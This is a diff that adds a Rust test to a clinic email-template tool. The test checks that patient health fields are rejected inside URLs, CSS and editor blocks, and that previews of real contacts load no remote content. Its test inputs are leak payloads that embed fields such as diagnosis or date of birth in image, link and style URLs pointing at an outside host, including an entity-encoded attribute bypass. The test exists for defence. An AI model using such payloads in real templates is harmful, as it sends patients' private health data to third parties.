@@ -389,3 +389,96 @@ async fn system_links_are_opaque_signed_and_unsubscribe_in_one_click() {
     assert_eq!(guest.get(&format!("/l/unsubscribe/{unsub}")).await.status, 404);
     app.stop().await;
 }
+
+/// Issue 18 item 8: a template could put PHI into a URL (`<img src="https://x/?dob={{contact.date_of_birth}}">`)
+/// and every mail client would send it to that host. PHI merge fields are refused in every
+/// URL-bearing attribute and in CSS, in raw HTML and in the block editor; real-contact previews
+/// load nothing remote.
+#[tokio::test]
+async fn phi_merge_fields_are_refused_in_urls_and_real_contact_previews_load_nothing_remote() {
+    let app = TestApp::start().await;
+    app.org_with_user("Clinic", "admin@clinic.test", Role::Admin).await;
+    let (admin, _) = app.sign_in("admin@clinic.test", None).await;
+    let (s, f) = admin
+        .call_json(
+            "create_field",
+            json!({ "key": "diagnosis", "label": "Diagnosis", "field_type": "text", "options": [], "is_phi": true }),
+        )
+        .await;
+    assert_eq!(s, 200, "{f}");
+    let (s, f) = admin
+        .call_json(
+            "create_field",
+            json!({ "key": "clinic_site", "label": "Clinic site", "field_type": "text", "options": [], "is_phi": false }),
+        )
+        .await;
+    assert_eq!(s, 200, "{f}");
+    let id = create(&admin, "Leaky", "").await;
+
+    // Raw HTML: refused with the field and the attribute named; the work is kept as a draft.
+    let (s, r) =
+        save(&admin, &id, 1, html_content("Hi", "<p>Hi</p><img src=\"https://x/?dob={{contact.date_of_birth}}\">"))
+            .await;
+    assert_eq!(s, 200, "{r}");
+    let why = r["DraftKept"]["error"].as_str().unwrap_or_else(|| panic!("the PHI URL was accepted: {r}"));
+    assert!(why.contains("Date of birth") && why.contains("src"), "{why}");
+    for (html, field, place) in [
+        ("<a HREF='https://x/{{contact.diagnosis}}'>x</a>", "Diagnosis", "href"),
+        ("<img srcset=\"a.png 1x, https://x/{{ contact.last_name }}.png 2x\">", "Last name", "srcset"),
+        ("<table background=https://x/{{contact.email}}><tr><td>x</td></tr></table>", "Email", "background"),
+        ("<td style=\"background:url('https://x/{{upper contact.first_name}}')\">x</td>", "First name", "style"),
+        ("<style>.a{background-image:url(https://x/{{contact.phone}})}</style><p>x</p>", "Phone", "<style>"),
+        ("<img s&#114;c=\"https://x/{{contact.diagnosis}}\">", "Diagnosis", "src"),
+        ("<v:image xlink:href=\"https://x/{{#if contact.diagnosis}}y{{/if}}\"/>", "Diagnosis", "xlink:href"),
+    ] {
+        let (_, r) = save(&admin, &id, 1, html_content("Hi", &format!("<p>Hello</p>{html}"))).await;
+        let why = r["DraftKept"]["error"].as_str().unwrap_or_else(|| panic!("accepted: {html}: {r}"));
+        assert!(why.contains(field) && why.contains(place), "{html}: {why}");
+    }
+    // Block editor: images, buttons and links in text.
+    let blocks = |b: Value| {
+        json!({ "mode": "blocks", "subject": "Hi", "preheader": "", "html": "", "text": "", "text_edited": false,
+                "design": { "blocks": [b] } })
+    };
+    for (block, field) in [
+        (
+            json!({ "type": "image", "src": "https://x/p.png?d={{contact.date_of_birth}}", "alt": "", "width": null, "link": null }),
+            "Date of birth",
+        ),
+        (
+            json!({ "type": "image", "src": "https://x/p.png", "alt": "", "width": null, "link": "https://x/{{contact.diagnosis}}" }),
+            "Diagnosis",
+        ),
+        (json!({ "type": "button", "label": "Go", "url": "https://x/?n={{contact.last_name}}" }), "Last name"),
+        (json!({ "type": "text", "text": "See [your page](https://x/{{contact.email}})" }), "Email"),
+    ] {
+        let (_, r) = save(&admin, &id, 1, blocks(block.clone())).await;
+        let why = r["DraftKept"]["error"].as_str().unwrap_or_else(|| panic!("accepted: {block}: {r}"));
+        assert!(why.contains(field) && why.contains("block 1"), "{block}: {why}");
+    }
+    let (_, e) = admin.call("open_template", &[("id", &id)]).await;
+    assert_eq!(e["latest_version"], 1, "nothing leaky became a version");
+
+    // Still allowed: system links, non-PHI fields in URLs, PHI in the body text.
+    let ok = "<p>Hello {{contact.first_name}}, about {{contact.diagnosis}}.</p>\
+              <p><a href=\"https://clinic.example/{{contact.clinic_site}}\">Your clinic</a> \
+              <img src=\"https://clinic.example/logo.png\" alt=\"\"> <a href=\"{{links.unsubscribe}}\">Unsubscribe</a></p>";
+    let (_, r) = save(&admin, &id, 1, html_content("Hi", ok)).await;
+    assert_eq!(r["Saved"]["version"], 2, "{r}");
+    assert_eq!(r["Saved"]["uses_phi"], true);
+
+    // Previews: made-up data may show https images; a real contact's preview loads nothing remote.
+    let (_, contact) =
+        admin.call_json("create_contact", json!({ "input": { "fields": { "email": MARKER_EMAIL } } })).await;
+    let contact = contact.as_str().unwrap().to_string();
+    let synthetic = admin.get(&format!("/templates/{id}/preview/2?sample=synthetic")).await;
+    assert_eq!(synthetic.status, 200);
+    let csp = synthetic.headers["content-security-policy"].to_str().unwrap();
+    assert!(csp.contains("img-src https: data:"), "{csp}");
+    let real = admin.get(&format!("/templates/{id}/preview/2?sample={contact}")).await;
+    assert_eq!(real.status, 200);
+    let csp = real.headers["content-security-policy"].to_str().unwrap();
+    assert!(csp.contains("img-src data:") && !csp.contains("https:") && !csp.contains("http:"), "{csp}");
+    assert!(csp.contains("default-src 'none'") && csp.contains("sandbox"), "{csp}");
+    app.stop().await;
+}
